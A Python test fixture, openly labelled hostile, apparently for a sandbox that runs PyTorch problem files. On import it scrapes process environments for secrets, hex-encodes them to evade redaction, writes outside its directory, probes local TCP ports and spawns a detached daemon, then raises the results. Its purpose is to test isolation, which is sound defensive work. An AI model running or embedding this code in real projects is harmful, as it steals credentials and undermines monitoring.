"""Hostile fixture: a problem file (#30), as untrusted as a candidate. When imported it looks for keys in every
process's /proc/PID/environ it can read (the engine's, the importer's, a campaign's, the servers'), writes a file
outside its directory, connects to every TCP port listening here and starts a daemon in a session of its own
(which outlives its process group, and would hold the pipes it inherited); get_inputs raises what it managed,
each key hex-encoded (past the engine's redaction of key shapes)."""
import os
import re
import socket
import time

import torch
import torch.nn as nn

batch_size = 64
dim = 256
_SECRET = re.compile(r"KEY|TOKEN|SECRET|PASSWORD", re.I)
_ESCAPED = "repair-hostile-escaped.txt"


def _keys() -> str:
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                raw = f.read().decode(errors="replace")
        except OSError:
            continue
        found |= {f"{k}={v.encode().hex()}" for k, _, v in (kv.partition("=") for kv in raw.split("\0"))
                  if _SECRET.search(k) and v}
    return ", ".join(sorted(found)) or "none"


def _writes() -> str:
    done = []
    for d in (os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~"), "/tmp"):
        if os.path.realpath(d) == os.path.realpath(os.getcwd()):
            continue  # its own scratch directory: its to write
        try:
            with open(os.path.join(d, _ESCAPED), "w") as f:
                f.write("escaped")
            done.append(d)
        except OSError:
            pass
    return ", ".join(done) or "none"


def _tcp() -> str:
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                next(f)
                ports |= {int(ln.split()[1].rsplit(":", 1)[1], 16) for ln in f if ln.split()[3] == "0A"}
        except OSError:
            pass
    reached = []
    for port in sorted(ports)[:32]:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=2).close()
            reached.append(str(port))
        except OSError:
            pass
    return ", ".join(reached) or "none"


def _daemon() -> str:
    try:
        r, w = os.pipe()
        pid = os.fork()
    except OSError as e:
        return f"refused ({e.strerror})"
    if pid == 0:  # the daemon: a session of its own, its parent gone, sleeping with every inherited descriptor
        try:
            os.setsid()
            if os.fork():
                os._exit(0)
            os.write(w, str(os.getpid()).encode())
            time.sleep(600)
        finally:
            os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    daemon = os.read(r, 32).decode()
    os.close(r)
    return f"pid {daemon}" if daemon else "none"


REPORT = f"keys: {_keys()}; written outside: {_writes()}; tcp reached: {_tcp()}; daemon: {_daemon()}"


class Model(nn.Module):
    def forward(self, x):
        return torch.relu(x)


def get_inputs():
    raise RuntimeError("hostile problem file: " + REPORT)


def get_init_inputs():
    return []
